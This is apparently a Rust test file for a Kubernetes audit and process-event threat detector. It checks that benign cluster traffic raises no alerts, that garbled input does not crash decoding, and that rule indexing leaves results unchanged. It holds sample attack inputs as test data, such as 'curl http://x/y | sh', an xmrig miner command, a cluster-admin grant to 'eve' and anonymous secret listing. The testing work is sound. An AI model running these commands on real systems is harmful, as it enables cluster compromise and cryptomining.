//! A realistic benign cluster (control-plane chatter, controllers, CI, Helm, AKS add-ons,
//! node agents) raises no Medium or High alert; and broken input never crashes decoding.

mod common;

use common::*;
use keelwatch_detect::alert::severity_rank;
use keelwatch_detect::decode::read_stream;
use serde_json::{Value, json};

fn benign_stream() -> Vec<Value> {
    let mut v = Vec::new();
    for node in ["aks-nodepool1-12345678-vmss000000", "aks-nodepool1-12345678-vmss000001"] {
        let kubelet = format!("system:node:{node}");
        for _ in 0..5 {
            v.push(
                audit("update", "leases", Some("kube-node-lease"), Some(node))
                    .user(&kubelet)
                    .ua("kubelet/v1.29.2")
                    .metadata_level()
                    .v(),
            );
            v.push(
                audit("patch", "nodes", None, Some(node))
                    .sub("status", "?timeout=10s")
                    .user(&kubelet)
                    .ua("kubelet/v1.29.2")
                    .metadata_level()
                    .v(),
            );
            v.push(
                audit("get", "configmaps", Some("kube-system"), Some("kube-proxy")).user(&kubelet).metadata_level().v(),
            );
            v.push(
                audit("watch", "pods", None, None)
                    .uri(&format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{node}&watch=true"))
                    .user(&kubelet)
                    .metadata_level()
                    .v(),
            );
            v.push(audit("create", "events", Some("shop"), None).user(&kubelet).metadata_level().v());
            v.push(
                audit("patch", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
                    .sub("status", "")
                    .user(&kubelet)
                    .metadata_level()
                    .v(),
            );
        }
    }
    for sa in ["endpointslice-controller", "replicaset-controller", "deployment-controller", "job-controller"] {
        v.push(
            audit("update", "leases", Some("kube-system"), Some("kube-controller-manager"))
                .user("system:kube-controller-manager")
                .metadata_level()
                .v(),
        );
        v.push(
            audit("list", "pods", None, None)
                .user(&format!("system:serviceaccount:kube-system:{sa}"))
                .metadata_level()
                .v(),
        );
    }
    // Controllers create pods from templates, including privileged node agents.
    v.push(
        audit("create", "pods", Some("kube-system"), Some("kube-proxy-abcde"))
            .user("system:serviceaccount:kube-system:daemon-set-controller")
            .req(pod(
                "kube-proxy-abcde",
                "kube-system",
                &[("kube-proxy", "mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.29.2", true)],
                json!({"hostNetwork": true}),
            ))
            .v(),
    );
    v.push(
        audit("create", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
            .user("system:serviceaccount:kube-system:replicaset-controller")
            .req(pod("web-7d9c5b7f4-x2x9z", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
            .v(),
    );
    v.push(
        audit("create", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
            .sub("binding", "")
            .user("system:kube-scheduler")
            .metadata_level()
            .v(),
    );
    // AKS add-on manager rolls out usual kube-system components.
    v.push(audit("create", "daemonsets", Some("kube-system"), Some("csi-azuredisk-node")).user("aksService")
        .req(deployment("csi-azuredisk-node", "kube-system", &[("azuredisk", "mcr.microsoft.com/oss/kubernetes-csi/azuredisk-csi:v1.29.1", true),
            ("node-driver-registrar", "mcr.microsoft.com/oss/kubernetes-csi/csi-node-driver-registrar:v2.9.0", false)],
            json!({"hostNetwork": true, "volumes": [{"name": "kubelet-dir", "hostPath": {"path": "/var/lib/kubelet"}}, {"name": "etc", "hostPath": {"path": "/etc/kubernetes"}}]}))).v());
    v.push(
        audit("create", "deployments", Some("kube-system"), Some("coredns"))
            .user("aksService")
            .req(deployment(
                "coredns",
                "kube-system",
                &[("coredns", "mcr.microsoft.com/oss/kubernetes/coredns:v1.11.1", false)],
                json!({}),
            ))
            .v(),
    );
    v.push(audit("update", "configmaps", Some("kube-system"), Some("coredns-autoscaler")).user("system:serviceaccount:kube-system:coredns-autoscaler")
        .req(json!({"kind": "ConfigMap", "metadata": {"name": "coredns-autoscaler"}, "data": {"linear": "{\"coresPerReplica\":512}"}})).v());
    // Monitoring stack via Helm: node-exporter shares host namespaces with a usual image.
    v.push(audit("create", "daemonsets", Some("monitoring"), Some("node-exporter")).user("system:serviceaccount:flux-system:helm-controller")
        .req(deployment("node-exporter", "monitoring", &[("node-exporter", "quay.io/prometheus/node-exporter:v1.7.0", false)],
            json!({"hostNetwork": true, "hostPID": true, "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}}, {"name": "sys", "hostPath": {"path": "/sys"}}]}))).v());
    v.push(audit("create", "secrets", Some("monitoring"), Some("sh.helm.release.v1.kps.v1")).user("system:serviceaccount:flux-system:helm-controller")
        .req(json!({"kind": "Secret", "metadata": {"name": "sh.helm.release.v1.kps.v1", "labels": {"owner": "helm"}}, "type": "helm.sh/release.v1", "data": {"release": "H4sIAAAA"}})).v());
    v.push(
        audit("patch", "validatingwebhookconfigurations", None, Some("cert-manager-webhook"))
            .user("system:serviceaccount:cert-manager:cert-manager-cainjector")
            .req(json!({"webhooks": [{"name": "webhook.cert-manager.io", "clientConfig": {"caBundle": "LS0t"}}]}))
            .v(),
    );
    // A developer and CI at work.
    v.push(
        audit("list", "pods", Some("shop"), None).uri("/api/v1/namespaces/shop/pods?limit=500").metadata_level().v(),
    );
    v.push(
        audit("get", "pods", Some("shop"), Some("web-7d9c5b7f4-x2x9z"))
            .sub("log", "?container=web&follow=true")
            .metadata_level()
            .v(),
    );
    v.push(
        audit("create", "deployments", Some("shop"), Some("web"))
            .user("system:serviceaccount:ci:deployer")
            .ua("argocd-application-controller/v2.10")
            .req(deployment(
                "web",
                "shop",
                &[("web", "contoso.azurecr.io/web:1.4.2", false)],
                json!({"volumes": [{"name": "cfg", "configMap": {"name": "web"}}]}),
            ))
            .v(),
    );
    v.push(
        audit("create", "services", Some("shop"), Some("web"))
            .user("system:serviceaccount:ci:deployer")
            .req(service("web", "shop", "ClusterIP", &[80], json!({}), json!({"app": "web"})))
            .v(),
    );
    v.push(
        audit("create", "services", Some("ingress"), Some("ingress-nginx-controller"))
            .user("system:serviceaccount:ci:deployer")
            .req(service(
                "ingress-nginx-controller",
                "ingress",
                "LoadBalancer",
                &[80, 443],
                json!({}),
                json!({"app.kubernetes.io/name": "ingress-nginx"}),
            ))
            .v(),
    );
    v.push(audit("create", "configmaps", Some("shop"), Some("web")).user("system:serviceaccount:ci:deployer")
        .req(json!({"kind": "ConfigMap", "metadata": {"name": "web"}, "data": {"LOG_LEVEL": "info", "password_min_length": "12", "FEATURE_FLAGS": "checkout=true"}})).v());
    v.push(
        audit("create", "rolebindings", Some("shop"), Some("dev-view"))
            .req(json!({"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view"},
        "subjects": [{"kind": "Group", "name": "devs"}]}))
            .v(),
    );
    v.push(
        audit("create", "clusterroles", None, Some("app-reader"))
            .req(json!({"kind": "ClusterRole", "metadata": {"name": "app-reader"},
        "rules": [{"apiGroups": [""], "resources": ["pods", "services"], "verbs": ["get", "list", "watch"]}]}))
            .v(),
    );
    for uri in ["/healthz", "/readyz", "/livez", "/version", "/version?timeout=32s", "/readyz?verbose"] {
        let mut e = audit("get", "pods", None, None).user("system:anonymous").uri(uri).metadata_level().v();
        e.as_object_mut().unwrap().remove("objectRef");
        v.push(e);
    }
    // Node processes of a normal workload and the node itself.
    for (argv, exe) in [
        (vec!["nginx", "-g", "daemon off;"], "/usr/sbin/nginx"),
        (vec!["sh", "-c", "ls -la /app && cat /app/config.yaml"], "/bin/sh"),
        (vec!["curl", "-fsS", "https://api.contoso.com/health"], "/usr/bin/curl"),
        (vec!["python3", "-m", "gunicorn", "app:app"], "/usr/bin/python3"),
        (
            vec![
                "/usr/local/bin/kubelet",
                "--kubeconfig=/var/lib/kubelet/kubeconfig",
                "--config=/var/lib/kubelet/config.yaml",
            ],
            "/usr/local/bin/kubelet",
        ),
        (vec!["nohup", "/usr/local/bin/agent", "--serve"], "/usr/bin/nohup"),
        // Exec readiness probes checking a TCP port through bash.
        (vec!["sh", "-c", "echo > /dev/tcp/127.0.0.1/6379"], "/bin/sh"),
        (vec!["bash", "-c", "</dev/tcp/localhost/8080"], "/bin/bash"),
        (vec!["bash", "-c", "tail -n 100 /root/.bash_history"], "/bin/bash"),
    ] {
        v.push(process(&argv, exe));
    }
    v
}

#[test]
fn benign_traffic_raises_no_medium_or_high_alert() {
    let stream = benign_stream();
    assert!(stream.len() > 80);
    let alerts = alerts(&stream);
    let loud: Vec<_> = alerts
        .iter()
        .filter(|a| severity_rank(&a.alert_severity) >= severity_rank("Medium"))
        .map(|a| (&a.alert_type, a.extended_properties.get("Message")))
        .collect();
    assert!(loud.is_empty(), "benign traffic raised {loud:?}");
    let all: Vec<_> = alerts.iter().map(|a| a.alert_type.as_str()).collect();
    assert!(all.is_empty(), "benign traffic raised even low alerts: {all:?}");
}

#[test]
fn broken_input_never_crashes() {
    let good = || audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v().to_string();
    let mut input: Vec<u8> = Vec::new();
    let garbage: Vec<Vec<u8>> = vec![
        b"{".to_vec(),
        b"]".to_vec(),
        b"null".to_vec(),
        b"\xff\xfe\x00binary".to_vec(),
        b"{\"kind\":\"EventList\",\"items\":[1,2,{\"auditID\":{}}]}".to_vec(),
        b"{\"records\":[{\"category\":\"kube-audit\",\"properties\":{\"log\":\"{not json\"}}]}".to_vec(),
        b"{\"auditID\":\"x\",\"user\":\"not-an-object\"}".to_vec(),
        b"{\"pid\":\"one\",\"argv\":[]}".to_vec(),
        "[".repeat(100_000).into_bytes(),
        format!("{{\"records\":{}1{}}}", "[".repeat(50), "]".repeat(50)).into_bytes(),
        b"{\"auditID\":\"y\",\"requestObject\":{\"kind\":\"Secret\",\"data\":\"notamap\"},\"objectRef\":{\"resource\":\"secrets\"}}".to_vec(),
    ];
    for g in &garbage {
        input.extend_from_slice(g);
        input.push(b'\n');
        input.extend_from_slice(good().as_bytes());
        input.push(b'\n');
    }
    // Truncated final line.
    let last = good();
    input.extend_from_slice(&last.as_bytes()[..last.len() / 2]);
    let mut det = detector();
    let mut fired = 0;
    let mut bad = Vec::new();
    let stats = read_stream("broken.jsonl", &input[..], |e| fired += det.process(&e).len(), |m| bad.push(m)).unwrap();
    assert_eq!(fired, garbage.len(), "every good event between garbage lines still alerts");
    assert!(stats.malformed as usize >= garbage.len() - 2, "{bad:?}");
    assert!(bad.iter().all(|m| m.source_name == "broken.jsonl" && m.line > 0));
    assert!(bad.last().unwrap().message.contains("unterminated"), "{:?}", bad.last());
}

/// The rule index only skips rules that cannot match: indexed and unindexed evaluation agree
/// on every event, benign or not, for the catalog (and for the upstream Falco rules when
/// `KEELWATCH_FALCO_RULES` points at them).
#[test]
fn rule_index_changes_no_result() {
    use keelwatch_detect::audit::AuditEvent;
    use keelwatch_detect::rules::load_rules;
    let mut events = benign_stream();
    let p = pod("x", "default", &[("c", "xmrig/xmrig:6", true)], json!({"hostPID": true, "hostNetwork": true}));
    events.push(audit("create", "pods", Some("kube-system"), Some("x")).req(p.clone()).v());
    events.push(audit("create", "pods", Some("default"), Some("x")).req(p).stage("ResponseStarted").v());
    events
        .push(audit("create", "pods", Some("default"), Some("p")).sub("exec", "?command=sh&stdin=true").code(101).v());
    events.push(audit("get", "pods", Some("default"), Some("p")).sub("portforward", "?ports=8080").v());
    events.push(audit("delete", "events", Some("default"), Some("e1")).v());
    events.push(audit("list", "secrets", None, None).user("system:anonymous").v());
    events.push(audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v());
    events.push(
        audit("create", "clusterrolebindings", None, Some("b"))
            .req(json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "eve"}]}))
            .v(),
    );
    let mut empty = audit("get", "pods", None, None).v();
    for k in ["verb", "stage", "objectRef", "user"] {
        empty.as_object_mut().unwrap().remove(k);
    }
    events.push(empty);
    for argv in [
        vec!["./asc_alerttest_662jfi039n"],
        vec!["xmrig", "-o", "stratum+tcp://x:1"],
        vec!["nohup", "/tmp/.x"],
        vec!["useradd", "eve"],
        vec!["sh", "-c", "curl http://x/y | sh"],
    ] {
        events.push(process(&argv, ""));
    }
    let mut sets = vec![load_rules(true, &[]).unwrap()];
    if let Ok(path) = std::env::var("KEELWATCH_FALCO_RULES") {
        let text = std::fs::read_to_string(&path).unwrap();
        sets.push(load_rules(false, &[(path, text)]).unwrap());
    }
    for rules in &sets {
        let mut fired = 0;
        for e in &events {
            if e.get("pid").is_some() {
                let ev: keelwatch_detect::ProcessEvent = serde_json::from_value(e.clone()).unwrap();
                let (a, b) = (rules.eval_process(&ev), rules.eval_process_unindexed(&ev));
                fired += a.len();
                assert_eq!(a, b, "{e}");
            } else {
                let ev = AuditEvent::from_value(e.clone()).unwrap();
                let (a, b) = (rules.eval_audit(&ev, 1), rules.eval_audit_unindexed(&ev, 1));
                fired += a.len();
                assert_eq!(a, b, "{e}");
            }
        }
        assert!(fired >= 10, "the events exercise the rules ({fired} matches)");
    }
}
